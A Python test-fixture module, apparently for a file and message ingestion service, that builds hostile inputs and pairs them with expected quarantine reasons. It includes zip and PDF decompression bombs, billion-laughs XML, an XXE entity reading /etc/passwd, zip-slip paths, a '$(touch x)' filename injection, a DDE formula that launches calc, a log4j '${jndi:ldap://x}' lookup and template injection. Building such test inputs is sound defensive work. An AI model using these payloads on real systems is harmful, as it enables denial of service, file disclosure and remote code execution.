"""Files and messages made to harm their reader. Each is made when it is asked for: some are large."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

CONTENT_TYPES = (
    '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BILLION_LAUGHS = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{LAUGHS}]><x>&l9;</x>'
QUADRATIC = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]><x>{"&a;" * 50_000}</x>'
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f; words</x>'


def zipped(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def docx_bomb() -> bytes:
    """120 MB of blanks in half a megabyte."""
    return zipped({"[Content_Types].xml": CONTENT_TYPES.encode(), "word/document.xml": b" " * 120_000_000})


def lying_docx() -> bytes:
    """The same, and its directory says that it is ten bytes."""
    data = bytearray(docx_bomb())
    at = data.rindex(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, 10)
    return bytes(data)


def overlapping_zip() -> bytes:
    """A thousand directory entries that all point at one packed megabyte of blanks."""
    types = CONTENT_TYPES.encode()
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    blanks = packed.compress(b" " * 1_000_000) + packed.flush()
    buffer, central, count = io.BytesIO(), io.BytesIO(), 0

    def add(name: bytes, method: int, crc: int, data: bytes, size: int, at: int | None = None) -> int:
        nonlocal count
        head = struct.pack("<HHHHHIIIHH", 20, 0, method, 0, 33, crc, len(data), size, len(name), 0)
        if at is None:
            at = buffer.tell()
            buffer.write(b"PK\x03\x04" + head + name + data)
        central.write(b"PK\x01\x02\x14\x00" + head + struct.pack("<HHHII", 0, 0, 0, 0, at) + name)
        count += 1
        return at

    add(b"[Content_Types].xml", 0, zlib.crc32(types), types, len(types))
    crc = zlib.crc32(b" " * 1_000_000)
    at = add(b"a0000", 8, crc, blanks, 1_000_000)
    for number in range(1, 1_000):
        add(b"a%04d" % number, 8, crc, blanks, 1_000_000, at)
    start, directory = buffer.tell(), central.getvalue()
    end = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), start, 0)
    return buffer.getvalue() + directory + end


def pdf(objects: dict[int, bytes]) -> bytes:
    """A PDF of these objects, the first its catalog."""
    out, places = io.BytesIO(b"%PDF-1.7\n"), {}
    out.seek(0, io.SEEK_END)
    for number, body in objects.items():
        places[number] = out.tell()
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    table = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for number in sorted(objects):
        out.write(b"%010d 00000 n \n" % places[number])
    out.write(b"trailer\n<</Size %d /Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, table))
    return out.getvalue()


def many_pages(count: int = 100_000) -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(3, count + 3))
    pages = b"<</Type /Pages /Count %d /MediaBox [0 0 9 9] /Kids [%s]>>" % (count, kids)
    page = b"<</Type /Page /Parent 2 0 R>>"
    return pdf({1: b"<</Type /Catalog /Pages 2 0 R>>", 2: pages} | {n: page for n in range(3, count + 3)})


def stream_bomb(size: int = 2_000_000_000) -> bytes:
    """One page whose content unpacks twice: two gigabytes in some kilobytes."""
    pack, once = zlib.compressobj(9), io.BytesIO()
    block = b" " * 10_000_000
    for _ in range(size // len(block)):
        once.write(pack.compress(block))
    once.write(pack.flush())
    twice = zlib.compress(once.getvalue(), 9)
    content = b"<</Length %d /Filter [/FlateDecode /FlateDecode]>>\nstream\n%s\nendstream" % (len(twice), twice)
    page = b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R>>"
    pages = b"<</Type /Pages /Count 1 /Kids [3 0 R]>>"
    return pdf({1: b"<</Type /Catalog /Pages 2 0 R>>", 2: pages, 3: page, 4: content})


def looping_pages() -> bytes:
    """A page tree whose root is its own child."""
    return pdf({1: b"<</Type /Catalog /Pages 2 0 R>>", 2: b"<</Type /Pages /Count 7 /Kids [2 0 R 2 0 R]>>"})


def nested_mail(depth: int = 3_000) -> bytes:
    head = b"From: a@x.example\nTo: b@x.example\nSubject: s\nMIME-Version: 1.0\n"
    parts = b"".join(b'Content-Type: multipart/mixed; boundary="b%d"\n\n--b%d\n' % (n, n) for n in range(depth))
    return head + parts + b"Content-Type: text/plain\n\nthe innermost\n"


def nested_xml(depth: int = 100_000) -> bytes:
    return b"<?xml version='1.0'?>" + b"<a>" * depth + b"deep" + b"</a>" * depth


def shared_string_bomb() -> bytes:
    """A workbook of a million cells that all show one string of 30,000 letters: 30 GB of text."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    row = "<row>" + '<c t="s"><v>0</v></c>' * 1_000 + "</row>"
    return zipped(
        {
            "[Content_Types].xml": (
                f'<Types xmlns="{package}/content-types"><Default Extension="xml" ContentType="application/xml"/>'
                '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                f'<Override PartName="/xl/workbook.xml" ContentType="{kind}.sheet.main+xml"/>'
                f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kind}.worksheet+xml"/>'
                f'<Override PartName="/xl/sharedStrings.xml" ContentType="{kind}.sharedStrings+xml"/></Types>'
            ).encode(),
            "_rels/.rels": (
                f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" Type="{rel}/officeDocument" '
                'Target="xl/workbook.xml"/></Relationships>'
            ).encode(),
            "xl/workbook.xml": (
                f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets><sheet name="s" sheetId="1" r:id="r1"/></sheets></workbook>'
            ).encode(),
            "xl/_rels/workbook.xml.rels": (
                f'<Relationships xmlns="{package}/relationships">'
                f'<Relationship Id="r1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
                f'<Relationship Id="r2" Type="{rel}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
            ).encode(),
            "xl/sharedStrings.xml": f'<sst xmlns="{main}"><si><t>{"w" * 30_000}</t></si></sst>'.encode(),
            "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><dimension ref="A1"/><sheetData>{row * 1_000}</sheetData></worksheet>'.encode(),
        }
    )


def one_line(file: Path, size: int, begin: bytes = b"", end: bytes = b"") -> None:
    """A file that is one line of letters, written piece by piece."""
    with file.open("wb") as out:
        out.write(begin)
        piece = b"a" * 10_000_000
        for start in range(0, size, len(piece)):
            out.write(piece[: size - start])
        out.write(end)


# What a file holds (small limits: see test_hostile), and why it is in quarantine.
FILES: dict[str, tuple[Callable[[], bytes], str]] = {
    "bomb.docx": (docx_bomb, "too_large_unpacked"),
    "lying.docx": (lying_docx, "too_large_unpacked"),
    "overlapping.docx": (overlapping_zip, "too_large_unpacked"),
    "zip in zip.zip": (lambda: zipped({"in.zip": zipped({"in.zip": bytes(9_000_000)})}), "unsupported_type"),
    "climbing.zip": (lambda: zipped({"../../etc/cron.d/x": b"x", "/etc/y": b"y"}), "unsupported_type"),
    "laughs.xml": (BILLION_LAUGHS.encode, "unreadable_xml"),
    "laughs.svg": (lambda: BILLION_LAUGHS.replace("<x>", "<svg>").replace("</x>", "</svg>").encode(), "unreadable_xml"),
    "laughs.docx": (
        lambda: zipped({"[Content_Types].xml": CONTENT_TYPES.encode(), "word/document.xml": BILLION_LAUGHS.encode()}),
        "unreadable_docx",
    ),
    "quadratic.xml": (QUADRATIC.encode, "unreadable_xml"),
    "deep.xml": (nested_xml, "unreadable_xml"),
    "deep.json": (lambda: b"[" * 500_000 + b"]" * 500_000, "unreadable_json"),
    "deep.html": (lambda: b"<html>" + b"<div>" * 500_000 + b"deep", "unreadable_html"),
    "deep.rtf": (lambda: b"{\\rtf1 " + b"{" * 300_000 + b"}" * 300_000, "no_text"),
    "deep.eml": (nested_mail, "unreadable_eml"),
    "hundred thousand pages.pdf": (many_pages, "too_many_pages"),
    "deep.pdf": (
        lambda: pdf({1: b"<</Type /Catalog /Pages " + b"[" * 200_000 + b"]" * 200_000 + b">>"}),
        "unreadable_pdf",
    ),
    "loop.pdf": (looping_pages, "unreadable_pdf"),
    "shared.xlsx": (shared_string_bomb, "too_much_text"),
    "long.txt": (lambda: b"a" * 3_000_000, "too_much_text"),
    "long.json": (lambda: b'{"a": "' + b"a" * 3_000_000 + b'"}', "too_much_text"),
    "wide.csv": (lambda: b"a," * 1_500_000 + b"\n" + b"b," * 1_500_000, "too_much_text"),
    "blanks.md": (lambda: b"# x" + b" " * 500_000 + b"y\n", "timeout"),
}

# What a file is called, and that it is published under that name.
NAMES = [
    "line\nbreak.txt",
    "return\rcarriage.txt",
    "tab\there.txt",
    "..txt",
    "...",
    " .txt",
    "-rf.txt",
    "%2e%2e%2fpasswd.txt",
    "back\\slash.txt",
    "..\\..\\boot.ini",
    "nul%00.txt",
    "\u202etxt.exe.txt",
    "\u200b.txt",
    "e\u0301.txt",
    "\u00e9.txt",
    "\U0001f4a3.txt",
    "lone\udc80surrogate.txt",
    "a" * 250 + ".txt",
    "semi;colon'quote\"$(touch x)`.txt",
    "#1.txt",
    "?q=1.txt",
]


def said(second: int, start: int, text: str, more: str = "") -> str:
    """The JSON of a message; ``text`` and ``more`` are raw."""
    return f'{{"type": "message", "user": "U1", "ts": "{start + second}.000300", "text": "{text}"{more}}}'


def deep(levels: int) -> str:
    return "[" * levels + "]" * levels


def blocks(levels: int) -> str:
    return '[{"type": "rich_text", "elements": ' * levels + "[]" + "}]" * levels


# Messages: what stands in the day, and the reason of its quarantine, or the text that is published of it.
MESSAGES: dict[str, tuple[str, str | None, str]] = {
    "nested far too deep": (f', "blocks": {deep(50_000)}', "too_deep", ""),
    "nested deep": (f', "blocks": {blocks(300)}', None, "said"),
    "a number of 5,000 digits": (f', "reply_count": {"9" * 5_000}', None, "said"),
    "a number past any float": (', "reply_count": 1e999', None, "said"),
    "keys twice, the last holds": (', "text": "said twice"', None, "said twice"),
    "a key of a megabyte": (f', "{"k" * 1_000_000}": 1', None, "said"),
    "ten thousand keys": (", " + ", ".join(f'"k{n}": {n}' for n in range(10_000)), None, "said"),
    "a prototype": (', "__proto__": {"a": 1}, "constructor": {"b": 2}', None, "said"),
    "files that climb": (
        ', "files": [{"title": "../../etc/passwd", "name": "/etc/shadow"}]',
        None,
        "said\n../../etc/passwd",
    ),
    "a user that climbs": (', "user": "../../U1"', None, "said"),
}
TEXTS: dict[str, tuple[str, str | None]] = {
    "bidi": ("\u202eevil\u202c", "\u202eevil\u202c"),
    "zero width": ("a\u200bb\u2060c", "a\u200bb\u2060c"),
    "NUL": ("a\\u0000b", "ab"),
    "lone surrogates": ("\\udfff x \\ud800", "\ufffd x \ufffd"),
    "marks without end": ("a" + "\u0301\u0316" * 100_000, None),
    "a family of a thousand": ("\U0001f468\u200d" * 1_000, None),
    "noncharacters": ("a\ufffe\uffffb", None),
    "tags": ("a" + "\U000e0041" * 500, None),
    "formulas": ("=cmd|' /C calc'!A0", "=cmd|' /C calc'!A0"),
    "templates": ("{{7*7}} ${jndi:ldap://x} <script>", None),
    "marks of markup": ("<@" * 20_000 + "*_~`" * 20_000, None),
    "links unended": ("<http://a|" * 20_000, None),
}


def day(start: int) -> str:
    """All messages of both tables, and a plain one between any two."""
    records = [said(n, start, "said", more) for n, (more, _, _) in enumerate(MESSAGES.values())]
    records += [said(100 + n, start, text) for n, (text, _) in enumerate(TEXTS.values())]
    plain = [said(200 + n, start, f"plain number {n}") for n in range(len(records))]
    return "[" + ",\n".join(record for pair in zip(records, plain, strict=True) for record in pair) + "]"
